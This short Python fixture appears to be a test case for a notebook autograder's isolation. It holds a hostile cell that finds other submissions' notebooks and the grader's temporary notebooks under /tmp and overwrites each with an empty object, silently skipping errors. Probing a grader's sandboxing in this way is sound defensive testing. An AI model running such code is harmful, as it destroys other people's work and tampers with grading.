"""Look for other submissions' scratch copies and the grader's temporary folders in /tmp and overwrite their notebooks."""
WHERE = "extra-cell"
CODE = '''
import glob, os

written = []
for pattern in ("/tmp/initgrader-*/*.ipynb", "/tmp/initgrader-*/*/*.ipynb", "/tmp/*/*.ipynb",
                "/tmp/pytest-of-*/*/*/*/submitted/*/*/*.ipynb"):
    for path in glob.glob(pattern):
        try:
            with open(path, "w") as handle:
                handle.write("{}")
            written.append(path)
        except OSError:
            pass
print("written", written)
'''
EXPECT = {"*": "full"}
